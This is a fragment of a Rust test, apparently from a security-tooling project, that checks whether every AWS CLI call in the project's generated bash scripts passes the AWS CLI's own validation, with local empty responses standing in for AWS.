    /// Every AWS CLI call of every AWS script, parsed by the AWS CLI and validated against its
    /// service model, with a local empty answer instead of AWS.
    /// `SECBOT_AWSCLI_PATH` points at an awscli installed with `pip install --target`.
    #[test]
    fn every_aws_cli_call_passes_the_aws_cli_s_own_validation() {
        let path = std::env::var("SECBOT_AWSCLI_PATH").ok();
        let install = "python3 -m pip install --target DIR awscli==1.44.0, SECBOT_AWSCLI_PATH=DIR";
        if !python_has("awscli", path.as_deref(), install) {
            return;
        }
        let all = rendered();
        let aws: Vec<&Rendered> = all
            .iter()
            .filter(|r| r.code.contains("aws ") && r.language == "bash" && !r.code.contains("az "))
            .collect();
        assert!(aws.len() >= 10, "{} AWS scripts", aws.len());
        let (passed, report) = check_with(&["cli_validate.sh", "aws"], &aws, "sh", path.as_deref());
        assert!(passed, "AWS CLI calls the AWS CLI rejects:\n{report}");
    }
}
